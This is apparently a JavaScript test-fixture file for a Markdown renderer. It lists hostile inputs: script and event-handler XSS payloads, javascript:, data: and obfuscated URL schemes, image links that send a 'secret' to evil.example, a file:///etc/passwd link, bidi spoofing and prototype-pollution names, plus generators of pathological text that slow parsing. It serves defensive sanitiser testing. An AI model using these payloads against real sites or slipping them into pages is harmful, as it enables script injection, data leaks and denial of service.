/**
 * Markdown that wants out of its message: scripts, requests that tell a stranger what is read here, links
 * that are more than a place, words that pose as the page; and texts that only want to keep it busy.
 */

const EVIL = "https://evil.example";

export const HOSTILE = [
  // Markup and handlers.
  "<script>globalThis.hacked = 1</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=\"globalThis.hacked=1\">", "<svg/onload=globalThis.hacked=1>",
  "<svg><script>globalThis.hacked=1</script></svg>", "<body onload=globalThis.hacked=1>", "<iframe src=\"https://evil.example\"></iframe>", "<iframe srcdoc=\"<script>parent.hacked=1</script>\">",
  "<object data=\"https://evil.example\"></object>", "<embed src=https://evil.example>", "<link rel=stylesheet href=https://evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
  "<base href=https://evil.example/>", "<style>@import url(https://evil.example/x.css);</style>", "<form action=https://evil.example><input name=q autofocus onfocus=globalThis.hacked=1>", "<details open ontoggle=globalThis.hacked=1>",
  "<video src=https://evil.example/v.mp4 autoplay></video>", "<audio src=https://evil.example/a.mp3 autoplay>", "<math><mtext><script>globalThis.hacked=1</script></mtext></math>", "<template><script>globalThis.hacked=1</script></template>",
  "<a href=\"javascript:globalThis.hacked=1\">a</a>", "<b style=\"position:fixed;inset:0;background:url(https://evil.example/b)\">b</b>", "<!--><script>globalThis.hacked=1</script>-->", "<![CDATA[<script>globalThis.hacked=1</script>]]>",
  "<?php echo '<script>globalThis.hacked=1</script>' ?>", "<noscript><p title=\"</noscript><img src=x onerror=globalThis.hacked=1>\">", "`</code><script>globalThis.hacked=1</script>`", "```html\n</code></pre><script>globalThis.hacked=1</script>\n```",
  "```\"><script>globalThis.hacked=1</script>\nx\n```", "```js onclick=globalThis.hacked=1\nx\n```", "    </pre><script>globalThis.hacked=1</script>", "| <img src=x onerror=globalThis.hacked=1> |\n|---|\n| <script>globalThis.hacked=1</script> |",
  // Links that are more than a place.
  "[a](javascript:globalThis.hacked=1)", "[a](JaVaScRiPt:globalThis.hacked=1)", "[a](java\nscript:globalThis.hacked=1)", "[a](java&#10;script:globalThis.hacked=1)", "[a](&#x6A;avascript:globalThis.hacked=1)", "[a](&#106;&#97;vascript:x)",
  "[a](<javascript:globalThis.hacked=1>)", "[a]( javascript:x)", "[a](\u0001javascript:x)", "[a](javascript&colon;x)", "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](DATA:text/html,x)", "[a](vbscript:x)", "[a](file:///etc/passwd)",
  "[a](blob:https://evil.example/1)", "[a](filesystem:x)", "[a](about:blank)", "[a](view-source:https://evil.example)", "[a](intent://x)", "[a](ms-settings:x)", "[a](//evil.example)", "[a](/v1/conversations)", "[a](#/c/conv_1)", "[a](?q=1)", "[a]()",
  "<javascript:globalThis.hacked=1>", "<data:text/html,x>", "[a]: javascript:globalThis.hacked=1\n\n[a]", "[a][b]\n\n[b]: data:text/html,x", "[a](https://evil.example \"onmouseover=globalThis.hacked=1\")",
  "[a](https://evil.example/\" onclick=\"globalThis.hacked=1)", "[![i](javascript:x)](javascript:y)", "[a](mailto:a@b.example?subject=x)", "https://evil.example/\u202egpj.exe", "[https://bank.example](https://evil.example)",
  "[a](https://user:pw@evil.example/)", "[a](https://evil.example/%0d%0aSet-Cookie:x)", "javascript://%0aalert(1)", "www.evil.example/<script>",
  // Requests that tell a stranger.
  `![a](${EVIL}/p.png?q=secret)`, "![a](http://evil.example/p.png)", "![a](//evil.example/p.png)", "![a](data:image/svg+xml,<svg onload=globalThis.hacked=1>)", "![a](javascript:x)", "![a](/v1/conversations)", "![](https://evil.example/empty.png)",
  "![a][i]\n\n[i]: https://evil.example/ref.png", "[![a](https://evil.example/in.png)](https://evil.example)", "| ![a](https://evil.example/cell.png) |\n|---|\n| b |", "![a](https://evil.example/p.png \"t\")", "![a](&#104;ttps://evil.example/entity.png)",
  "# ![a](https://evil.example/head.png)", "- ![a](https://evil.example/item.png)", "> ![a](https://evil.example/quote.png)", "![a](https://evil.example/<script>)", "![<script>globalThis.hacked=1</script>](https://evil.example/alt.png)",
  // Formulas.
  "\\(\\href{javascript:globalThis.hacked=1}{x}\\)", "\\(\\url{https://evil.example}\\)", "\\(\\includegraphics{https://evil.example/p.png}\\)", "$$\\class{send}{x}\\id{prompt}{y}$$", "\\(\\style{background:url(https://evil.example)}{x}\\)", "\\(\\label{prompt}\\ref{prompt}\\)",
  "\\(\\text{<script>globalThis.hacked=1</script>}\\)", "\\(\\color{red;background:url(https://evil.example)}x\\)", "\\(\\def\\a{\\a\\a}\\a\\)", "\\(\\htmlData{a=b}{x}\\)",
  // Names that meet ours.
  "[__proto__]: https://evil.example\n\n[__proto__] [constructor] [toString]", "```__proto__\nx\n```", "```constructor\nx\n```", "&constructor; &toString; &__proto__;", "| __proto__ |\n|---|\n| hasOwnProperty |",
  // Words that pose as something else.
  "\u202e\u2066dlrow olleh\u2069", "a\u0301\u0302\u0303".repeat(200), "\ud83d \udc00 \ufffe \u0000 \u0007 \u001b[31m", "&#0; &#xD800; &#x110000; &#99999999;", "​\u200b\u200d\u2028\u2029\ufeff",
];

const repeat = (text, length) => text.repeat(Math.ceil(length / text.length));

/** Texts that take longest to read, for their length. @param {number} length */
export const tiresome = (length) => ({
  "nested quotes": ">".repeat(length), "spaced quotes": repeat("> ", length), brackets: "[".repeat(length), images: repeat("![", length), stars: "*".repeat(length), "open stars": repeat("*a ", length),
  "stars and their ends": repeat("*a **b ", length / 2) + repeat("c** d* ", length / 2), underscores: repeat("_a __b ", length), tildes: repeat("~~a ", length), "half links": repeat("[a](", length), "links that end at once": `${"[".repeat(length / 4)}${repeat("](a)", length / 2)}`,
  backticks: Array.from({ length: Math.floor(Math.sqrt(2 * length)) }, (_, i) => "`".repeat(i)).join("a"), angles: "<".repeat(length), tags: repeat("<a b=\"", length), comments: repeat("<!--", length), "nested items": Array.from({ length: Math.floor(Math.sqrt(length)) }, (_, i) => `${"  ".repeat(i)}- a\n`).join(""),
  "items in items": repeat("- ", length), "loose items": repeat("- a\n\n", length), "one long item": `1. a\n${repeat("   b\n\n", length)}`, "a tall table": `|a|\n|-|\n${repeat("|a|\n", length)}`, "a wide table": `|${repeat("a|", length)}\n|${repeat("-|", length)}\n|${repeat("a|", length)}`,
  "a table of short rows": `|${"a|".repeat(50)}\n|${"-|".repeat(50)}\n${repeat("|\n", length)}`, "one line": repeat("a ", length), "one word": "a".repeat(length), dollars: repeat("$a ", length), formulas: repeat("\\(x\\) ", length), "different formulas": Array.from({ length: Math.floor(length / 10) }, (_, i) => `\\(x_{${i}}\\)`).join(" "),
  "open formulas": repeat("\\[\n", length), addresses: repeat("http://a.b ", length), "raw blocks": repeat("<b>\n\n", length), headings: repeat("# a\n", length), paragraphs: repeat("a\n\n", length), "code of brackets": `\`\`\`js\n${repeat("a*(b/", length)}`, "code of tags": `\`\`\`xml\n${repeat("<a b='c", length)}`,
  "code of templates": `\`\`\`cpp\n${repeat("template<a<", length)}`, "code of quotes": `\`\`\`ruby\n${repeat("%q(", length)}`, "code of shell": `\`\`\`bash\n${repeat("$(((`", length)}`, "code of Markdown": `\`\`\`markdown\n${repeat("*_[a](", length)}`, "code of names": `\`\`\`csharp\n${repeat(`${"a".repeat(400)}\n`, length)}`, everything: repeat("*_`[<$\\(|> ", length), definitions: repeat("[a]: b\n", length), entities: repeat("&amp;", length),
});
